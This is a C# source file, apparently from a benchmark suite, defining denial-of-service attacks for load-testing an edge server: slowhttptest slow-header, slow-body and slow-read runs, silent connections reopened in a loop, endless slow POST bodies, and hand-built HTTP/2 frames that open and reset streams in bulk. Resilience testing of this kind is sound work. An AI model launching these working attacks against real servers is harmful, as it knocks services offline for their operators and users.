using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Gantry.Bench.Edge.Attacks;

/// <summary>A kind of attack, and how it is begun: it ends when what is returned is disposed.</summary>
internal sealed record Attack(string Name, Func<IPEndPoint, Task<IAsyncDisposable>> BeginAsync)
{
    private const int Connections = 1000;

    public static IReadOnlyList<Attack> All =>
    [
        new("slowhttptest: slow heads", edge => SlowAsync(edge, "-H", "-i", "2", "-t", "GET")),
        new("slowhttptest: slow bodies", edge => SlowAsync(edge, "-B", "-i", "2", "-s", "8192", "-t", "POST")),
        new("slowhttptest: slow readers", edge => SlowAsync(edge, "-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3")),
        new("connections that say nothing, opened and opened again", edge => Task.FromResult<IAsyncDisposable>(new Loop(edge, SilentAsync))),
        new("bodies without end, slowly, on 200 connections", edge => Task.FromResult<IAsyncDisposable>(new Loop(edge, BodyAsync, 200))),
        new("HTTP/2: requests taken back, on 4 connections", edge => Task.FromResult<IAsyncDisposable>(new Loop(edge, TakeBackAsync, 4))),
        new("HTTP/2: 300 requests taken back, and a new connection", edge => Task.FromResult<IAsyncDisposable>(new Loop(edge, TakeSomeBackAsync, 4))),
    ];

    private static async Task<IAsyncDisposable> SlowAsync(IPEndPoint edge, params string[] words)
    {
        string[] all = [.. words, "-c", Text(Connections), "-r", "500", "-l", "60", "-p", "10", "-u", $"http://{edge}/b65536"];
        var process = Process.Start(new ProcessStartInfo("slowhttptest", all) { RedirectStandardOutput = true, RedirectStandardError = true })!;
        process.BeginOutputReadLine();
        process.BeginErrorReadLine();
        // Half of its connections are there by then; the rest come while others are served.
        await Task.Delay(TimeSpan.FromSeconds(1));
        return new Child(process);
    }

    private static async Task SilentAsync(Socket socket, CancellationToken stop)
    {
        var buffer = new byte[1];
        await socket.ReceiveAsync(buffer, stop);
    }

    private static async Task BodyAsync(Socket socket, CancellationToken stop)
    {
        await socket.SendAsync(Encoding.ASCII.GetBytes($"POST /post HTTP/1.1\r\nHost: {Wrk.Host}\r\nContent-Length: 100000000\r\n\r\n"), stop);
        using var pace = new PeriodicTimer(TimeSpan.FromMilliseconds(500));
        while (await pace.WaitForNextTickAsync(stop)) await socket.SendAsync("x"u8.ToArray(), stop);
    }

    private static async Task TakeBackAsync(Socket socket, CancellationToken stop)
    {
        await socket.SendAsync(Preface, stop);
        for (var stream = 1; ; stream += 2) await socket.SendAsync(TakenBack(stream), stop);
    }

    /// <summary>No more than a connection may, on as many connections as there is time for.</summary>
    private static async Task TakeSomeBackAsync(Socket socket, CancellationToken stop)
    {
        const int Some = 300;
        await socket.SendAsync((byte[])[.. Preface, .. Enumerable.Range(0, Some).SelectMany(i => TakenBack(1 + (2 * i)))], stop);
        await socket.ReceiveAsync(new byte[64], stop);
    }

    private static byte[] Preface => [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, 0, 0, 0, 4, 0, 0, 0, 0, 0];

    private static byte[] TakenBack(int stream)
    {
        byte[] number = [(byte)(stream >> 24), (byte)(stream >> 16), (byte)(stream >> 8), (byte)stream];
        byte[] fields = [0x82, 0x86, 0x84, 1, (byte)Wrk.Host.Length, .. Encoding.ASCII.GetBytes(Wrk.Host)];
        return [0, 0, (byte)fields.Length, 1, 5, .. number, .. fields, 0, 0, 4, 3, 0, .. number, 0, 0, 0, 8];
    }

    private static string Text(int number) => number.ToString(CultureInfo.InvariantCulture);

    private sealed class Child(Process process) : IAsyncDisposable
    {
        public async ValueTask DisposeAsync()
        {
            if (!process.HasExited) process.Kill();
            await process.WaitForExitAsync();
            process.Dispose();
        }
    }

    /// <summary>The same on many connections, each of which is opened again when the edge has ended it.</summary>
    private sealed class Loop : IAsyncDisposable
    {
        private readonly CancellationTokenSource stop = new();
        private readonly Task all;

        public Loop(IPEndPoint edge, Func<Socket, CancellationToken, Task> attack, int connections = Connections) =>
            all = Task.WhenAll(Enumerable.Range(0, connections).Select(_ => Task.Run(() => AgainAsync(edge, attack))));

        public async ValueTask DisposeAsync()
        {
            await stop.CancelAsync();
            await all;
            stop.Dispose();
        }

        private async Task AgainAsync(IPEndPoint edge, Func<Socket, CancellationToken, Task> attack)
        {
            while (!stop.IsCancellationRequested)
            {
                using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp);
                try
                {
                    await socket.ConnectAsync(edge, stop.Token);
                    await attack(socket, stop.Token);
                }
                catch (Exception end) when (end is SocketException or OperationCanceledException)
                {
                    // Cut, or done.
                }
            }
        }
    }
}
